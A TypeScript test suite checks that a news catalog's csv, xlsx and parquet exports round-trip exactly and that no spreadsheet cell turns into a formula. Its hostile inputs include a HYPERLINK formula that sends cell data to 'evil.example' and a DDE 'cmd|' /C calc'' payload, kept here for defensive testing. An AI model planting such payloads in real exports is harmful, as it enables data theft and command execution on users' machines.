// What an export holds comes back as it was, whoever opens the file: two readers of each format, texts as hostile as they come.

import { readFileSync } from "node:fs";
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { unzipSync } from "fflate";
import { readXlsx } from "hucre/xlsx";
import { afterAll, beforeAll, describe, expect, inject, test } from "vitest";
import type { ExportFormat } from "../../../src/news/export/protocol.ts";
import { type Made, makeHere } from "./made.ts";
import { READERS, type Row, unguarded } from "./read-back.ts";
import { type RawArticle, writeSmallCatalog } from "./small-catalog.ts";

const LONG = `${"word ".repeat(8_000)}end`;
const HOSTILE: readonly string[] = [
  "=1+1",
  '=HYPERLINK("http://evil.example/?"&A1,"see")',
  "+47 22 33",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "＝1",
  "'=1",
  "''-",
  "a;=1+1",
  "a\n=1+1",
  "a;'=1",
  "- a list\n- of lines",
  "case_x0041_b _x005F_x0041_ _x000D_ _X0041_ _x41_",
  "nul \u0000 bell \u0007 escape \u001b delete \u007f next \u0085",
  "not characters \ufffe \uffff",
  "carriage\rreturn\r\nand line\nbreaks",
  'quotes " and "" and , and ;',
  "  spaces around  ",
  "<b>&amp;</b> ]]> <!-- <?xml",
  "Õiguskantsler Ł 油 🙂 e\u0301 \u202eabc",
  "0123",
  "1e5",
  "TRUE",
  "2024-03-05",
  "NULL",
  "mar\ufeffked",
];

/** Midday, so that a zone that slips in shows. */
const at = (day: string): number => Date.parse(`${day}T23:30:00Z`);

const ARTICLES: readonly RawArticle[] = [
  ...HOSTILE.map((text, index) => ({
    id: `h-${index}`,
    title: text,
    link: text,
    source: "delfi.ee",
    publishedAt: at("2024-03-05") - index,
    countries: ["Estonia", "Latvia"],
    verdicts: { 1: [5, text] as const, 8: [0] as const },
    description: text,
    content: text,
  })),
  ...["0001-01-01", "1899-12-31", "1900-01-01", "1900-02-28", "1900-03-01", "1999-12-31", "2024-02-29"].map(
    (day) => ({ id: `d-${day}`, publishedAt: at(day), verdicts: { 3: [1, "s"] as const } }),
  ),
  { id: "=undated", verdicts: { 2: [3, "s"] as const, 5: [2, "t"] as const } },
];

let directory: string;

beforeAll(async () => {
  directory = await mkdtemp(join(tmpdir(), "formats-"));
  await writeSmallCatalog(directory, ARTICLES);
});

afterAll(() => rm(directory, { recursive: true }));

const made = new Map<string, Promise<Made>>();

/** The path of the export of all of them, which is made once. */
async function exported(format: ExportFormat, withTexts = false): Promise<string> {
  const key = `${format} ${withTexts}`;
  const making = made.get(key) ?? makeHere(directory, { format, withTexts });
  made.set(key, making);
  return (await making).path;
}

/** What the rows are, told plainly: newest first, undated last, pillars in order. */
function expected(articles: readonly RawArticle[], withTexts: boolean): readonly Row[] {
  const newestFirst = articles.toSorted(
    (a, b) => (b.publishedAt ?? Number.NEGATIVE_INFINITY) - (a.publishedAt ?? Number.NEGATIVE_INFINITY),
  );
  const names: Readonly<Record<string, string>> = {
    1: "Constraints on Government Powers",
    2: "Absence of Corruption",
    3: "Open Government",
    5: "Order and Security",
    8: "Criminal Justice",
  };
  return newestFirst.flatMap((one) =>
    Object.entries(one.verdicts).map(([pillar, [score, summary]]) => ({
      id: one.id,
      country: one.countries?.join(", ") ?? null,
      outlet: one.source ?? null,
      published: one.publishedAt === undefined ? null : new Date(one.publishedAt).toISOString().slice(0, 10),
      title: one.title ?? null,
      link: one.link ?? null,
      pillar: Number(pillar),
      pillar_name: names[pillar] ?? null,
      scored: score > 0,
      score: score === 0 ? null : score,
      direction: score === 0 ? null : score < 3 ? "negative" : score > 3 ? "positive" : "neutral",
      strength: score === 0 ? null : Math.abs(score - 3),
      relevance: 2,
      story: one.id,
      summary: summary ?? null,
      ...(withTexts ? { description: one.description ?? null, content: one.content ?? null } : {}),
    })),
  );
}

/** Missing and empty are one in sheets and csv. */
function blanked(rows: readonly Row[]): readonly Row[] {
  return rows.map((row) =>
    Object.fromEntries(Object.entries(row).map(([name, value]) => [name, value === "" ? null : value])),
  );
}

describe.each([
  ["parquet", "duckdb", READERS.parquet.duckdb],
  ["parquet", "hyparquet", READERS.parquet.hyparquet],
  ["csv", "duckdb", READERS.csv.duckdb],
  ["csv", "hucre", READERS.csv.hucre],
  ["xlsx", "read-excel-file", READERS.xlsx["read-excel-file"]],
  ["xlsx", "hucre", READERS.xlsx.hucre],
] as const)("%s opened by %s", (format, _name, read) => {
  test.each([true, false])(
    "is what was asked, every text as it was; with whole texts: %s",
    async (withTexts) => {
      expect(blanked(await read(await exported(format, withTexts)))).toEqual(
        blanked(expected(ARTICLES, withTexts)),
      );
    },
  );
});

test("a sheet keeps days as days and texts that begin like formulas as texts", async () => {
  const path = await exported("xlsx");
  const parts = unzipSync(readFileSync(path));
  const sheet = new TextDecoder().decode(parts["xl/worksheets/sheet2.xml"]);
  expect(sheet).not.toMatch(/<f[ >]/);
  // 29 February 2024 is day 45,351; days before 1 March 1900 are texts, for programs count them differently.
  expect(sheet).toContain('s="2"><v>45351</v>');
  expect(sheet).toContain('s="2"><v>61</v>');
  for (const day of ["0001-01-01", "1899-12-31", "1900-01-01", "1900-02-28"])
    expect(sheet).toContain(`<t xml:space="preserve">${day}</t>`);
  expect(sheet).toMatch(/<c r="E\d+" s="3" t="inlineStr"><is><t xml:space="preserve">=1\+1</);
});

test("a text that a cell does not hold is cut, counted and told", async () => {
  const own = await mkdtemp(join(tmpdir(), "formats-"));
  const long = `${"x".repeat(32_765)}🙂 and more`;
  await writeSmallCatalog(own, [
    { id: "a", title: "t", verdicts: { 1: [5, LONG], 2: [4, "y".repeat(32_767)], 3: [1, long] } },
  ]);
  const { path, end } = await makeHere(own, { format: "xlsx" });
  expect(end).toMatchObject({ type: "written", cut: 2 });
  const rows = await READERS.xlsx.hucre(path);
  expect(rows.map(({ summary }) => String(summary).length)).toEqual([32_767, 32_767, 32_766]);
  expect(rows.map(({ summary }) => String(summary).slice(-2))).toEqual(["w…", "yy", "x…"]);
  const { sheets } = await readXlsx(readFileSync(path));
  expect(sheets[0]?.rows).toContainEqual(["Texts cut, for a cell holds 32,767 characters", 2]);
  const csv = await makeHere(own, { format: "csv" });
  expect((await READERS.csv.hucre(csv.path)).map(({ summary }) => String(summary).length)).toEqual([
    LONG.length,
    32_767,
    long.length,
  ]);
  await rm(own, { recursive: true });
});

test("the first sheet tells the question, the counts and what columns mean", async () => {
  const path = await exported("xlsx");
  const { sheets } = await readXlsx(readFileSync(path));
  expect(sheets.map(({ name }) => name)).toEqual(["About", "Assessments"]);
  const about = new Map(sheets[0]?.rows.map(([label, value]) => [label, value]));
  expect(about.get("Question")).toBe("/news export");
  expect(about.get("Assessments, a row each")).toBe(expected(ARTICLES, false).length);
  expect(about.get("Articles")).toBe(ARTICLES.length);
  expect(about.get("Assessments not scored")).toBe(HOSTILE.length);
  expect(about.get("Articles undated")).toBe(1);
  expect(about.get("Last article")).toEqual(new Date("2024-03-05T00:00:00Z"));
  expect(about.get("Scored by")).toMatch(/^A language model/);
  expect(about.get("relevance")).toMatch(/0 off topic/);
});

test("a csv begins with the mark by which Excel knows UTF-8", async () => {
  const path = await exported("csv");
  expect(readFileSync(path).subarray(0, 5)).toEqual(Buffer.from("\ufeffid"));
});

test("no cell of a csv is a formula, whatever separates cells and whatever quotes mean", async () => {
  const path = await exported("csv", true);
  for (const line of readFileSync(path, "utf8").split(/[\r\n]/))
    for (const cell of line.split(/[;\t]/)) expect(cell).not.toMatch(/^"?[=+\-@＝＋－＠]/);
});

test("any text comes back from a csv once the apostrophe is taken away", async () => {
  const piece = fc.constantFrom("=", "'", "-", "@", "\t", "\r", "\n", ";", "a", " ", "＋", '"', ",");
  const texts = fc.array(fc.string({ unit: piece, minLength: 1, maxLength: 8 }), {
    minLength: 60,
    maxLength: 60,
  });
  for (const some of fc.sample(texts, { seed: inject("seed"), numRuns: inject("long") ? 20 : 1 })) {
    const own = await mkdtemp(join(tmpdir(), "formats-"));
    await writeSmallCatalog(
      own,
      some.map((title, index) => ({ id: `${1_000 + index}`, title, verdicts: { 1: [3] } })),
    );
    const { path } = await makeHere(own, { format: "csv" });
    const rows = await READERS.csv.hucre(path);
    expect(rows.map(({ title }) => title)).toEqual(some);
    await rm(own, { recursive: true });
  }
  expect(unguarded("'=1")).toBe("=1");
});
